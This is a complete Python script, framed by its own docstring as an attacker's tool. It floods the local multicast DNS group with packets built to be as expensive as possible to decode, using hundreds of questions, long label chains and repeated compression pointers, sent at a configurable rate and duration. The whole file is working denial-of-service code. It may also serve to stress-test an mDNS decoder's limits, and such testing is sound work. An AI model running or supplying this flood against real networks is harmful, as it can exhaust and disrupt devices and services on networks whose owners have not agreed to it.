r"""Sends packets of multicast DNS at a rate, each as costly to decode as it may be.

Run as ``mdns_flood.py <port> <packets per second> <seconds>``, in the network of the attacker.
"""

import socket
import struct
import sys
import time

GROUP = "224.0.0.251"
_QUESTION = struct.pack(">HH", 255, 1)


def packet(questions: int, labels: int) -> bytes:
    """Each question but the first refers to the name of the first."""
    name = b"\x01a" * labels + b"\x04_rpc\x04_tcp\x05local\0"
    header = struct.pack(">HHHHHH", 0, 0, questions, 0, 0, 0)
    return header + name + _QUESTION + (b"\xc0\x0c" + _QUESTION) * (questions - 1)


PACKETS = (packet(200, 190), packet(16, 36))
"""More than is accepted, and as much as is accepted."""


def flood(port: int, rate: float, seconds: float) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        began = time.monotonic()
        for number in range(int(rate * seconds)):
            sender.sendto(PACKETS[number % len(PACKETS)], (GROUP, port))
            due = began + (number + 1) / rate
            time.sleep(max(0.0, due - time.monotonic()))


if __name__ == "__main__":
    flood(int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3]))
